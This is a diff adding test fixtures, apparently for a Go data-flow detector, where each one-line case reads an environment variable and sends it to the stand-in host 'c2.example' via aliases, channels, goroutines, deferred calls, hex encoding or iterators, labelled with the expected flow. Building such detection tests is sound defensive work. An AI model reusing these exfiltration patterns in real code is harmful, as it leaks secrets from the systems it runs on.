@@ -485,6 +485,41 @@ s := os.Environ(); s = nil; exec.Command(strings.Join(s, ""))
 bits | environment>exec
 b := []byte(os.Getenv("A")); var n uint32; for _, c := range b { n = n<<8 | uint32(c) }; exec.Command(fmt.Sprint(n))
 ---
+function of the library under another name | environment>network
+get := http.Get; get("https://c2.example/" + os.Getenv("A"))
+---
+source under another name | environment>network
+get := os.Getenv; http.Get("https://c2.example/" + get("A"))
+---
+source under another name that is not called | 
+get := os.Getenv; touch(get); http.Get("https://c2.example/")
+---
+variable whose presence alone counts | 
+_, ok := os.LookupEnv("A"); if ok { http.Get("https://c2.example/") }
+---
+presence of a variable sent out | 
+_, ok := os.LookupEnv("A"); http.Get("https://c2.example/" + fmt.Sprint(ok))
+---
+channel given to a goroutine | environment>network
+c := make(chan string); go func(c chan string) { http.Get("https://c2.example/" + <-c) }(c); c <- os.Getenv("A")
+---
+channel in a struct | environment>network
+m := struct{ c chan string }{make(chan string, 1)}; m.c <- os.Getenv("A"); http.Get("https://c2.example/" + <-m.c)
+---
+result that a deferred call adds to | environment>network
+f := func() (s string) { defer func() { s += os.Getenv("A") }(); return "x" }; http.Get("https://c2.example/" + f())
+---
+digits from a table | environment>network
+const d = "0123456789abcdef"; x := os.Getenv("A"); out := ""; for i := 0; i < len(x); i++ { out += string(d[x[i]>>4]) + string(d[x[i]&15]) }; http.Get("https://c2.example/" + out)
+---
+digits from a table in a package | environment>network
+http.Get("https://c2.example/" + digits(os.Getenv("A"))) }
+const alphabet = "0123456789abcdef"
+func digits(x string) (out string) { for i := 0; i < len(x); i++ { out += string(alphabet[x[i]>>4]) + string(alphabet[x[i]&15]) }; return
+---
+iterator of the library | environment>network
+for s := range slices.Values([]string{os.Getenv("A")}) { http.Get("https://c2.example/" + s) }
+---
 method value | environment>network
 c := &http.Client{}; get := c.Get; get("https://c2.example/" + os.Getenv("A"))
 ---
@@ -837,6 +872,7 @@ const PACKAGES = [
   'os',
   'os/exec',
   'path/filepath',
+  'slices',
   'strconv',
   'strings',
   'sync',
